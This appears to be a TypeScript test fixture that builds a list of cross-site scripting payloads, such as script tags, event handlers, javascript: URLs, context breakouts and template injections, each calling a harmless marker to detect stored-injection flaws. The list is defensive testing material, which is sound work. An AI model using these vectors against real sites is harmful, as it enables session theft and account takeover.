/**
 * Texts that are executed where a page treats them as markup, code or an address; each names the place where it was
 * stored.
 */

/**
 * Every element that such a text creates has this class, so that a page which treats one as markup is detected at once.
 */
export const hostileClass = 'hostile';

/** A regular expression needs no quotation marks, which some of the texts could not contain. */
export const hitOf = (place: string): string => `hit(/${place}/)`;

/** The first vectors do not affect what follows them, so that all of them can stand in one long text. */
export function vectorsOf(place: string): string[] {
  const hit = hitOf(place);
  const mark = `class=${hostileClass}`;
  return [
    `<script ${mark}>${hit}</script>`,
    `<ScRiPt ${mark} >${hit}</sCrIpT>`,
    `<img ${mark} src=x onerror=${hit}>`,
    `<img ${mark} src=x:x oNeRrOr="${hit}"/>`,
    `<img/${mark}/src/onerror=${hit}>`,
    `<svg ${mark} onload=${hit}>`,
    `<svg ${mark}><script>${hit}</script></svg>`,
    `<svg ${mark}><animate onbegin=${hit} attributeName=x dur=1s>`,
    `<body ${mark} onload=${hit}>`,
    `<input ${mark} autofocus onfocus=${hit}>`,
    `<details ${mark} open ontoggle=${hit}>x</details>`,
    `<video ${mark}><source onerror=${hit}></video>`,
    `<audio ${mark} src=x onerror=${hit}></audio>`,
    `<div ${mark} onpointerover=${hit} style=position:fixed;inset:0>x</div>`,
    `<p ${mark} style="animation:a" onanimationstart="${hit}">x</p>`,
    `<iframe ${mark} srcdoc="<script>parent.${hit}</script>"></iframe>`,
    `<iframe ${mark} src="javascript:parent.${hit}"></iframe>`,
    `<object ${mark} data="javascript:${hit}"></object>`,
    `<embed ${mark} src="javascript:${hit}">`,
    `<a ${mark} href="javascript:${hit}">x</a>`,
    `<a ${mark} href="&#106;avascript:${hit}">x</a>`,
    `<form ${mark} action="javascript:${hit}"><button>x</button></form>`,
    `<link ${mark} rel=stylesheet href="data:text/css,*{}" onload=${hit}>`,
    `<meta ${mark} http-equiv=refresh content="0;url=javascript:${hit}">`,
    `<base ${mark} href="https://evil.example/?${hit}/">`,
    `<math ${mark}><mtext><mglyph><style><img src onerror=${hit}>`,
    `"><img ${mark} src=x onerror=${hit}>`,
    `'><img ${mark} src=x onerror=${hit}>`,
    `" onmouseover="${hit}" autofocus onfocus="${hit}" x="`,
    `javascript:${hit}`,
    `JaVaScRiPt:${hit}//`,
    `data:text/html,<script ${mark}>${hit}</script>`,
    `[x](javascript:${hit})`,
    `{{constructor.constructor('${hit}')()}}`,
    '${' + hit + '}',
    `<%= ${hit} %>`,
    `#{${hit}}`,
    `';${hit};//`,
    `";${hit};//`,
    `\\";${hit};//`,
    `\u202E${hit} fdp.exe`,
    `\u2066\u200B${hit}\u2069`,
    `%3Cscript%3E${hit}%3C/script%3E`,
    `&lt;script&gt;${hit}&lt;/script&gt;`,
    `</script><script ${mark}>${hit}</script>`,
    `]]><script ${mark}>${hit}</script>`,
    `--><script ${mark}>${hit}</script><!--`,
    `</title><script ${mark}>${hit}</script>`,
    `</textarea><script ${mark}>${hit}</script>`,
    `<noscript><p title="</noscript><img ${mark} src=x onerror=${hit}>">`,
  ];
}
